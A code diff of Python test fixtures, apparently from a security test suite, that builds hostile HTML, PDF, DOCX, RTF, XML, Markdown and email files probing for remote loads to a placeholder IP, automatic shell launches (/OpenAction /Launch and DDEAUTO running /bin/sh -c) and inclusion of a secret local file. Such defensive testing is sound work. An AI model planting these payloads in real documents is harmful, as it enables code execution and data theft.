@@ -19,12 +19,14 @@ def _acting(folder: Folder) -> None:
     put = folder.put
     far = "http://203.0.113.9/probe"
     page = (
-        f'<html><head><meta http-equiv="refresh" content="0;url={far}"><link rel="stylesheet" href="{far}.css"><base href="{far}">'
-        f'<script src="{far}.js"></script><script>fetch("{far}")</script></head><body onload="fetch(1)"><p>a word probeactpage</p>'
-        f'<img src="{far}.png"><iframe src="{far}"></iframe><object data="{far}"></object><video src="{far}"></video></body></html>'
+        f'<html><head><meta http-equiv="refresh" content="0;url={far}"><link rel="stylesheet" href="{far}.css">'
+        f'<base href="{far}"><script src="{far}.js"></script><script>fetch("{far}")</script></head><body onload="fetch(1)">'
+        f'<p>a word probeactpage</p><img src="{far}.png">'
+        f'<iframe src="{far}"></iframe><object data="{far}"></object><video src="{far}"></video></body></html>'
     )
     put("F07", "remote.html", page, "a page that loads and refreshes", "probeactpage")
-    act = f"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (sh) /P (-c '{_RUN}') >> >> /AA << /O << /S /JavaScript /JS (app.launchURL) >> >>"
+    launch = f"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (sh) /P (-c '{_RUN}') >> >>"
+    act = launch + " /AA << /O << /S /JavaScript /JS (app.launchURL) >> >>"
     put(
         "F07",
         "launch.pdf",
@@ -33,8 +35,9 @@ def _acting(folder: Folder) -> None:
         "probeactpdf",
     )
     rels = (
-        f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" TargetMode="External" '
-        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{far}.dotm"/></Relationships>'
+        f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
+        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        f'TargetMode="External" Target="{far}.dotm"/></Relationships>'
     )
     field = f"<w:p><w:fldSimple w:instr=\"DDEAUTO /bin/sh '-c {_RUN}'\"/><w:r><w:t>a word probeactdocx</w:t></w:r></w:p>"
     parts = docx_parts(
@@ -120,12 +123,12 @@ def _entities(folder: Folder) -> None:
             folder.put("F11", f"{label}-{name}", data, "an external entity", never=[SECRET])
     path = folder.secret
     includes: dict[str, bytes | str] = {
-        "include.xml": f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><p>a word</p><xi:include href="{secret}" parse="text"/></x>',
+        "include.xml": f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><p>word</p><xi:include href="{secret}" parse="text"/></x>',
         "sheet.xml": f'<?xml-stylesheet href="{secret}"?><x>a word</x>',
         "field.rtf": rf'{{\rtf1 a word {{\field{{\*\fldinst INCLUDETEXT "{path}"}}}}}}',
         "include.rst": f"A word\n\n.. include:: {path}\n",
         "include.md": f'A word\n\n![x]({secret})\n<!--#include file="{path}"-->\n',
-        "frame.html": f'<html><body><p>a word</p><iframe src="{secret}"></iframe><object data="{secret}">x</object></body></html>',
+        "frame.html": f'<html><body><p>a word</p><iframe src="{secret}"></iframe><object data="{secret}">x</object>',
         "outer.eml": mail("a word").replace(
             b"text/plain", f'message/external-body; access-type=local-file; name="{path}"'.encode()
         ),
